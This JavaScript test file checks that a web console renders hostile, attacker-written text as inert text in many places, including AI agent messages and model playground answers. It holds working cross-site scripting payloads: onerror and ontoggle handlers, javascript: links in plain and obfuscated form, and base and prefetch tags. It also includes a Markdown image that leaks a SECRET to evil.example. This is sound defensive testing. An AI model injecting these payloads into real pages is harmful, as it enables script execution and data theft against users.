// The console shows the words of others as text: names, paths, logs,
// descriptions, hostnames, an agent's messages. None of them runs, requests
// anything from another origin, or becomes markup.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { inBrowser, startConsole } from "./support/console.js";
import { deployments } from "./support/deployments.js";
import { startAitmpl, startRawGithub, startSkillsmp } from "./fakes/skills.js";

const fakes = await Promise.all([startAitmpl(), startSkillsmp({ anonymousPerDay: 1000 }), startRawGithub()]);
after(() => Promise.all(fakes.map((fake) => fake.close())));
const [aitmpl, skillsmp, raw] = fakes;
const hatch = await startConsole({ AITMPL_BASE_URL: aitmpl.url, SKILLSMP_BASE_URL: skillsmp.url, RAW_GITHUB_BASE_URL: raw.url });
const { api, sql, open } = hatch;
const { project, live } = deployments(hatch);
const json = async (method, path, body, headers) => (await api(method, path, body, headers)).json();

const EVIL = `<img src=https://evil.example/p onerror="self.hacked=1"><svg></p><style><a id="</style><img src=1 onerror=self.hacked=1>">`;
/** Hostile markup, as a model or a page might write it. */
const MARKDOWN = `${EVIL}
![x](https://evil.example/p?leak=SECRET) ![y][ref] ![z](data:image/svg+xml;base64,PHN2Zy8+)
<link rel=prefetch href=https://evil.example/q> <p style="background:url(https://evil.example/r)">s</p>
<details open ontoggle="self.hacked=1"><summary>x</summary></details> <base href=https://evil.example/>
[a](javascript:self.hacked=1) [b](java
script:self.hacked=1) [c](&#106;avascript:self.hacked=1) [d](vbscript:x) [zip](https://example.com/a.zip)

[ref]: https://evil.example/s
`;

/** The traces that a page must not have. This is the result of a page that shows everything as text. */
const judged = (page) => page.evaluate(() => ({
  hacked: self.hacked ?? null,
  elements: [...document.querySelectorAll("main :is(img, script, style, link, form[action], object, embed, video, audio, base, meta)")].filter((element) => !element.closest(".editor, .uplot") && !element.src?.startsWith("data:image/webp")).map(({ outerHTML }) => outerHTML.slice(0, 120)),
  handlers: [...document.querySelectorAll("main *")].flatMap((element) => element.getAttributeNames().filter((name) => /^on|^srcdoc$/.test(name))),
  schemes: [...document.querySelectorAll("main a[href]")].map(({ protocol }) => protocol).filter((scheme) => !/^https?:$/.test(scheme)),
  openers: [...document.querySelectorAll('main a[target="_blank"]')].map(({ rel }) => rel).filter((rel) => !/noopener/.test(rel)),
}));
const CLEAN = { hacked: null, elements: [], handlers: [], schemes: [], openers: [] };

const wallet = "0x52908400098527886e0f7030069857d2e4169ee7";

async function fill() {
  const named = await project({ "index.html": "<!doctype html>", [`${"a".repeat(10)}.js`]: EVIL }, EVIL.slice(0, 90));
  const deployment = await live(named.id);
  await sql("UPDATE job_logs SET message = ?1 WHERE job_id IN (SELECT id FROM jobs WHERE subject_id = ?2)", EVIL, deployment.id);
  await sql("UPDATE jobs SET error = ?1 WHERE subject_id = ?2", EVIL, deployment.id);
  const insert = "INSERT INTO chat_messages (id, project_id, user_id, seq, role, content, status, model, changes, created_at) VALUES (?, ?, ?, ?, ?, ?, 'complete', ?, ?, ?)";
  const changes = JSON.stringify({ version: 1, files: [{ path: EVIL, bytes: 1, status: "added" }], notes: [EVIL] });
  for (const [seq, role] of [[1, "user"], [2, "assistant"]]) await sql(insert, crypto.randomUUID(), named.id, named.userId, seq, role, MARKDOWN, EVIL, role === "assistant" ? changes : null, Date.now());
  await sql("UPDATE sites SET name = ?1, description = ?1", EVIL);
  const { token } = await json("POST", "/workers", { walletAddress: wallet });
  const beat = { walletAddress: wallet, timestamp: new Date().toISOString(), hostname: "atlas", containers: [{ containerName: "web", port: "8080" }], system: { cpuCores: 8, ramTotalGb: 31, storageTotalGb: 468, cpuUsagePercent: 12, ramUsedGb: 9 } };
  assert.equal((await api("POST", "/heartbeat", beat, { authorization: `Bearer ${token}` })).status, 200);
  await json("POST", "/deployments", { name: "my-app", github: "owner/repository", creator: wallet });
  await json("POST", "/payments", { name: EVIL, amount: "1", creator: wallet });
  await json("POST", "/auth/keys", { name: EVIL.slice(0, 90), scopes: ["chat", "gateway"] });
  await (await api("GET", "/api/skillsmp?q=review")).text();
  await sql("UPDATE skills SET skill = json_set(skill, '$.name', ?1, '$.description', ?1, '$.author', ?1, '$.githubUrl', 'javascript:self.hacked=1')", EVIL);
  const told = await (await api("POST", "/message", { message: "A tip calculator" })).text();
  const [, agentApp] = told.match(/"appId":"([0-9a-f-]+)"/);
  await sql("UPDATE apps SET app_name = ?1 WHERE id = ?2", EVIL, agentApp);
  await sql("UPDATE app_events SET data = json_set(data, '$.message.messages[0].content', ?1, '$.metadata.deploymentUrl', 'javascript:self.hacked=1') WHERE app_id = ?2 AND event <> 'done'", MARKDOWN, agentApp);
  await sql("INSERT INTO dead_letters (id, job_id, body, reason, created_at) VALUES (?1, ?1, ?2, ?2, 1)", crypto.randomUUID(), EVIL);
  return { id: named.id, version: named.version, deployment: deployment.id, agentApp };
}

const { id, version, deployment, agentApp } = await fill();

/** Each place, and the sign that the hostile text is shown there. */
const PLACES = {
  "a project's name": ["#/", "onerror"],
  "an answer, its files, notes and model": [`#/build/${id}`, "SECRET"],
  "a file": [`#/build/${id}/versions/${version}`, "index.html"],
  "a deployment's log": [`#/build/${id}/deployments/${deployment}`, "onerror"],
  "an app of others": ["#/discover", "onerror"],
  "an agent's app": ["#/apps", "onerror"],
  "what an agent says": [`#/apps/${agentApp}`, "SECRET"],
  "a skill": ["#/skills", "onerror"],
  "a machine": [`#/fleet/machines/${wallet}`, "web"],
  "a payment": ["#/fleet/payments", "onerror"],
  "a key": ["#/account/keys", "onerror"],
  "a key of the gateway's": ["#/models/keys", "onerror"],
  "a job": ["#/operate", "onerror"],
  "a dead letter": ["#/operate/dead-letters", "onerror"],
};

for (const [place, [hash, mark]] of Object.entries(PLACES)) {
  test(`hostile markup in ${place} is shown as text`, inBrowser, async () => {
    const page = await open(hash);
    await page.locator("main").getByText(mark).first().waitFor();
    assert.deepEqual(await judged(page), CLEAN);
    await page.done();
  });
}

test("a machine's hostname and its containers' names are shown as text", inBrowser, async () => {
  // The API accepts no such characters from machines, but another one might.
  const page = await open(`#/fleet/machines/${wallet}`, {
    prepare: (page) => page.route(/\/workers\/0x[^?]*$|\/containers/, async (route) => {
      const response = await route.fetch();
      const text = await response.text();
      return route.fulfill({ response, body: text.replaceAll('"atlas"', JSON.stringify(EVIL)).replaceAll('"web"', JSON.stringify(EVIL)) });
    }),
  });
  await page.locator("main").getByText("onerror").nth(1).waitFor();
  assert.deepEqual(await judged(page), CLEAN);
  await page.done();
});

test("a model's answer in the playground is shown as text", inBrowser, async () => {
  const page = await open("#/models", {
    prepare: (page) => page.route("**/v1/chat/completions", (route) => route.fulfill({
      contentType: "text/event-stream",
      body: `data: ${JSON.stringify({ choices: [{ delta: { content: MARKDOWN, tool_calls: [{ index: 0, id: "c", function: { name: EVIL, arguments: EVIL } }] } }] })}\n\ndata: [DONE]\n\n`,
    })),
  });
  await page.waitForFunction(() => document.querySelector(".play-settings input")?.value);
  await page.getByRole("textbox", { name: "Your message" }).fill(EVIL);
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await page.locator(".talk-row.assistant").getByText("SECRET").waitFor();
  const { schemes, ...others } = await judged(page);
  assert.deepEqual({ schemes: schemes.filter((scheme) => scheme !== "blob:"), ...others }, CLEAN);
  await page.done();
});
